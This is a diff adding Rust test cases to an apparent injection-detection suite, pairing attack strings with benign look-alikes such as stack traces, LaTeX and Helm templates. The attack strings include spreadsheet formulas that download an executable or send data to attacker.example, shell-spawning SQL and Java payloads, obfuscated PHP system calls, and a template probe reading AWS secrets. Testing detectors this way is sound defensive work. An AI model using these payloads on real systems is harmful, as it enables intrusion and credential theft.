@@ -3900,3 +3900,112 @@ fn set31_exploit_endpoints_next_to_their_applications_pages() {
         &["applicationConfig.theme"],
     );
 }
+
+#[test]
+fn set32_key_files_and_where_clauses_next_to_key_ids_and_prose() {
+    table(
+        "nosql",
+        Q,
+        &["'; return '' == '", "\"; return 1 == 1"],
+        &[
+            "It's fine'; return policy is 30 days",
+            "return '' == '' in JS is true",
+        ],
+    );
+}
+
+#[test]
+fn set33_code_and_formulas_next_to_stack_traces_citations_and_math() {
+    table(
+        "code",
+        Q,
+        &[
+            "Object.const_get(:Kernel).send(:system,'id')",
+            "[].class.class.const_get(:Kernel).public_send(:`, 'id')",
+        ],
+        &[
+            "Please send(:) the invoice",
+            "const_get is Ruby's constant lookup",
+        ],
+    );
+    table(
+        "sqli",
+        Q,
+        &[
+            "'; BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'x',job_type=>'EXECUTABLE',job_action=>'/bin/sh');END;--",
+        ],
+        &[],
+    );
+    table(
+        "formula",
+        Q,
+        &[
+            "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://198.51.100.23/p.exe\",\"C:\\Users\\Public\\p.exe\",0,0)",
+            "=REGISTER(\"Kernel32\",\"WinExec\",\"JCJ\",\"WinExec\",,1,9)",
+            "=IFERROR(WEBSERVICE(\"https://attacker.example/k?\"&B2),\"\")",
+        ],
+        &[
+            "=IFERROR(VLOOKUP(A2,Rates!A:B,2,FALSE),0)",
+            "Call \"Support\", \"Billing\" or email us",
+        ],
+    );
+    table(
+        "java",
+        Q,
+        &[
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "new java.io.FileInputStream(\"/etc/passwd\")",
+        ],
+        &[
+            "java.net.SocketTimeoutException: Read timed out\n\tat java.base/sun.nio.ch.NioSocketImpl.timedRead(NioSocketImpl.java:288)\n\tat java.base/java.net.Socket$SocketInputStream.read(Socket.java:1099)",
+            "Caused by: java.io.FileNotFoundException: /data/app/config/device.properties\n\tat java.io.FileInputStream.open0(Native Method)",
+        ],
+    );
+    table(
+        "php",
+        Q,
+        &[
+            "$f('system')",
+            "$x(chr(105).chr(100))",
+            "$a(b);",
+            "(sy.(st).em)('uname')",
+        ],
+        &[
+            "Let $f(x) = \\frac{1}{x}$. Then $\\sum_{i=1}^{n} \\frac{1}{i} \\approx \\ln n$.",
+            "$g(x, y) = x^2 + y$ and $f(g(x))$",
+            "Ashcroft v. Iqbal, 556 U.S. 662, 678 (2009) (\"a claim has facial plausibility when...\")",
+        ],
+    );
+}
+
+#[test]
+fn set33_go_template_probes_next_to_helm_values() {
+    table(
+        "ssti",
+        Q,
+        &[
+            "{{printf \"%#v\" .}}",
+            "{{ .GetEnv \"AWS_SECRET_ACCESS_KEY\" }}",
+        ],
+        &[
+            "{{ printf \"%s-%s\" .Release.Name .Chart.Name }}",
+            "image: {{ .Values.image.repository }}:{{ .Chart.AppVersion }}",
+        ],
+    );
+}
+
+#[test]
+fn set33_insert_row_breakouts_next_to_tuples_in_prose() {
+    table(
+        "sqli",
+        FieldKind::HeaderValue,
+        &[
+            "127.0.0.1'),('1.1.1.1','admin',1)-- -",
+            "x'),('evil',1,now());#",
+        ],
+        &[
+            "Pairs ('a'),('b') and ('c') are listed",
+            "O'Reilly (ed.), ('Learning Rust', 2nd)",
+        ],
+    );
+}
